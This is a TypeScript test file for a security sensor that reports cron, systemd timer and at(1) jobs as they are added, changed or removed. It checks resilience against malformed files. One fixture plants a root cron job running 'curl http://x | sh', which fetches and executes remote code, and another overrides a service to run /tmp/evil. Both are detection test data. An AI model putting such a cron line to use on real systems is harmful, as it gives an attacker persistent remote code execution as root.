import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { type TestContext, test } from 'node:test'

import { withFolder } from '../../../test/support/folder.ts'
import { requireRoot } from '../../../test/support/scratch.ts'
import { startSensor } from '../../../test/support/sensor.ts'
import type { Event } from '../../model/index.ts'
import { scheduleSensor, snapshotSchedules } from './index.ts'

interface Root {
  readonly path: string
  write(path: string, text: string): string
}

function withRoot(t: TestContext): Root {
  const { path: root } = withFolder(t)
  function write(path: string, text: string): string {
    mkdirSync(dirname(join(root, path)), { recursive: true })
    writeFileSync(join(root, path), text)
    return join(root, path)
  }
  write('/etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n')
  write('/etc/crontab', 'SHELL=/bin/sh\n17 * * * * root hourly\n')
  for (const folder of ['cron.d', 'cron.daily', 'systemd/system'])
    mkdirSync(join(root, 'etc', folder), { recursive: true })
  mkdirSync(join(root, 'var/spool/cron/crontabs'), { recursive: true })
  return { path: root, write }
}

function schedule(event: Event): Readonly<Record<string, unknown>> {
  return event.hx?.['schedule'] as Record<string, unknown>
}

test('what is scheduled while the sensor runs is told, with what it was before', async (t) => {
  const root = withRoot(t)
  const under = await startSensor(t, scheduleSensor, { root: root.path })
  assert.equal(under.sensor.status().tier, 'inotify')
  assert.equal(under.events.length, 0)
  const file = root.write('/etc/cron.d/evil', '* * * * * root curl http://x | sh\n')
  const added = await under.waitFor((event) => event.event.action === 'job-added')
  assert.deepEqual(
    [added.event.dataset, added.file?.path, schedule(added)['schedule'], schedule(added)['user']],
    ['hx.schedule', '/etc/cron.d/evil', '* * * * *', 'root'],
  )
  assert.equal(schedule(added)['command'], 'curl http://x | sh')
  writeFileSync(file, '*/2 * * * * root curl http://x | sh\n')
  const changed = await under.waitFor((event) => event.event.action === 'job-changed')
  assert.equal((schedule(changed)['before'] as { schedule: string }).schedule, '* * * * *')
  unlinkSync(file)
  await under.waitFor((event) => event.event.action === 'job-removed')
  assert.equal(under.events.length, 3)
})

test('a timer is a job with the command of its unit', async (t) => {
  const root = withRoot(t)
  const under = await startSensor(t, scheduleSensor, { root: root.path })
  root.write(
    '/etc/systemd/system/x.service',
    '[Service]\nUser=alice\nExecStart=/opt/x \\\n  # comment\n  --all\n',
  )
  root.write('/etc/systemd/system/x.timer', '[Timer]\nOnCalendar=daily\nOnBootSec=5min\n')
  mkdirSync(join(root.path, 'etc/systemd/system/timers.target.wants'))
  symlinkSync(
    '/etc/systemd/system/x.timer',
    join(root.path, 'etc/systemd/system/timers.target.wants/x.timer'),
  )
  const active = await under.waitFor((event) => schedule(event)['active'] === true)
  assert.deepEqual(
    [
      schedule(active)['kind'],
      schedule(active)['schedule'],
      schedule(active)['command'],
      active.service?.name,
    ],
    ['timer', 'OnCalendar=daily OnBootSec=5min', '/opt/x --all', 'x.service'],
  )
  assert.equal(schedule(active)['user'], 'alice')
  root.write('/etc/systemd/system/x.service.d/o.conf', '[Service]\nExecStart=\nExecStart=/tmp/evil\n')
  const changed = await under.waitFor((event) => schedule(event)['command'] === '/tmp/evil')
  assert.equal(changed.event.action, 'job-changed')
})

test('folders that come later are watched from then on', async (t) => {
  const root = withRoot(t)
  rmSync(join(root.path, 'var/spool/cron'), { recursive: true })
  const under = await startSensor(t, scheduleSensor, { root: root.path })
  root.write('/var/spool/cron/crontabs/alice', '@reboot /home/alice/x\n')
  const added = await under.waitFor((event) => event.file?.path === '/var/spool/cron/crontabs/alice')
  assert.equal(schedule(added)['user'], 'alice')
})

test('what changed while nobody looked is told at the next start, once', async (t) => {
  const root = withRoot(t)
  const first = await startSensor(t, scheduleSensor, { root: root.path })
  await first.sensor.stop()
  root.write('/etc/crontab', 'SHELL=/bin/sh\n17 * * * * root hourly\n@reboot root /tmp/x\n')
  const options = { root: root.path, stateFolder: first.stateFolder }
  const second = await startSensor(t, scheduleSensor, options)
  assert.deepEqual(
    second.events.map((event) => [
      event.event.action,
      schedule(event)['command'],
      schedule(event)['while_away'],
    ]),
    [['job-added', '/tmp/x', true]],
  )
  await second.sensor.stop()
  const third = await startSensor(t, scheduleSensor, options)
  assert.equal(third.events.length, 0)
})

test('the process that the files sensor saw is named', async (t) => {
  const root = withRoot(t)
  const under = await startSensor(t, scheduleSensor, { root: root.path })
  const path = root.write('/etc/cron.d/x', '@daily root y\n')
  under.context.emit({
    '@timestamp': new Date().toISOString(),
    event: {
      kind: 'event',
      category: ['file'],
      type: ['creation'],
      action: 'close-write',
      dataset: 'hx.file',
      provider: 'fanotify',
    },
    process: { pid: 4711, name: 'vi' },
    file: { path },
  })
  const added = await under.waitFor((event) => event.event.action === 'job-added')
  assert.deepEqual([added.process?.pid, added.event.provider], [4711, 'fanotify'])
})

test('hostile files neither block nor throw', async (t) => {
  const root = withRoot(t)
  const crontabs = join(root.path, 'var/spool/cron/crontabs')
  assert.equal(spawnSync('mkfifo', [join(crontabs, 'pipe')]).status, 0)
  symlinkSync('/dev/zero', join(crontabs, 'zero'))
  symlinkSync(join(crontabs, 'loop'), join(crontabs, 'loop'))
  writeFileSync(join(crontabs, 'long'), Buffer.alloc(3_000_000, '* * * * * x\n'))
  writeFileSync(
    Buffer.concat([Buffer.from(`${root.path}/etc/cron.d/`), Buffer.from([0xff])]),
    '@daily root z\n',
  )
  const [table] = await snapshotSchedules(root.path)
  assert.deepEqual(table?.rows.map(({ path, command }) => [path, command]).toSorted(), [
    ['/etc/cron.d/\ufffd', 'z'],
    ['/etc/crontab', 'hourly'],
  ])
  assert.deepEqual(
    table?.problems.map((problem) => problem.replace(/^.*crontabs/, '')),
    ['/long is not read: longer than 1048576 bytes', '/loop is not read: ELOOP'],
  )
})

test('scripts that run-parts passes over are not active', async (t) => {
  const root = withRoot(t)
  for (const [name, mode] of [
    ['good', 0o755],
    ['bad.sh', 0o755],
    ['plain', 0o644],
  ] as const)
    chmodSync(root.write(`/etc/cron.daily/${name}`, '#!/bin/sh\n'), mode)
  const [table] = await snapshotSchedules(root.path)
  const scripts = table?.rows.filter(({ kind }) => kind === 'cron-script')
  assert.deepEqual(
    scripts?.map(({ name, active, schedule: when }) => [name, active, when]),
    [
      ['bad.sh', false, '@daily'],
      ['good', true, '@daily'],
      ['plain', false, '@daily'],
    ],
  )
})

function requireTool(t: TestContext, path: string): boolean {
  if (existsSync(path)) return requireRoot(t)
  t.skip(`SKIPPED, NOT TESTED: ${path} is not installed`)
  return false
}

test('a crontab that crontab(1) installs is told', async (t) => {
  if (!requireTool(t, '/usr/bin/crontab')) return
  if (spawnSync('crontab', ['-u', 'games', '-l']).status === 0) return t.skip('games has a crontab')
  t.after(() => spawnSync('crontab', ['-u', 'games', '-r']))
  const under = await startSensor(t, scheduleSensor)
  const input = '# x\n5 4 * * sun /bin/true haechi test\n'
  assert.equal(spawnSync('crontab', ['-u', 'games', '-'], { input }).status, 0)
  const added = await under.waitFor((event) => schedule(event)['command'] === '/bin/true haechi test')
  assert.deepEqual([added.event.action, schedule(added)['user']], ['job-added', 'games'])
})

test('a job that at(1) queues is told with its time, user and command', async (t) => {
  if (!requireTool(t, '/usr/bin/at')) return
  const under = await startSensor(t, scheduleSensor)
  const { stderr } = spawnSync('at', ['23:59', 'Jan', '5', '2031'], {
    input: 'touch /haechi/at\n',
    encoding: 'utf8',
  })
  const number = /job (\d+) at/.exec(stderr)?.[1]
  assert.ok(number !== undefined, stderr)
  t.after(() => spawnSync('atrm', [number]))
  const added = await under.waitFor((event) => schedule(event)['command'] === 'touch /haechi/at')
  assert.equal(schedule(added)['schedule'], new Date(2031, 0, 5, 23, 59).toISOString())
  assert.equal(schedule(added)['user'], 'root')
  assert.equal(schedule(added)['active'], true)
})
